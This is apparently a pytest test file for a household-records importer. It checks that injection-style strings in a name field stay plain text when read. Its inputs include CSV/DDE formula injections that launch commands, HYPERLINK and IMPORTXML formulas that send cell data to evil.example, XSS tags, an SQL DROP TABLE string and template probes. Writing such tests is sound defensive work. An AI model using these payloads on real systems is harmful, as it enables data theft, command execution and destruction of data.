"""Class K: text that a spreadsheet or a page would run. Reading keeps it as text, letter for letter."""

from __future__ import annotations

import pytest

from tests.bad_files.outcomes import Case, Outcome, check_case, run_cases

_TEXTS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?"&A1,"Nông Văn An")',
    '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "<script>alert(1)</script>",
    '<svg onload="alert(1)">',
    "'; DROP TABLE households; --",
    "{{7*7}} ${7*7} %s",
    "Nông Văn An\nBế Thị Bình",
]
CASES = [
    *(Case(f"text-{n}", "Họ tên chủ hộ", text, text) for n, text in enumerate(_TEXTS)),
    Case("tab", "Họ tên chủ hộ", "\t=1+1", "=1+1", ("X-SPACE",), "=1+1"),
    Case("bidi", "Họ tên chủ hộ", "Nông \u202eiốhK", "Nông iốhK", ("X-INVISIBLE",), "Nông iốhK"),
]


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, Outcome]]:
    return run_cases(tmp_path_factory.mktemp("injection"), CASES, {"Thu nhập": 900_000})


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_text_that_could_be_run_stays_text(case: Case, outcomes: dict[str, tuple[str, Outcome]]) -> None:
    check_case(case, "head", outcomes[case.id])
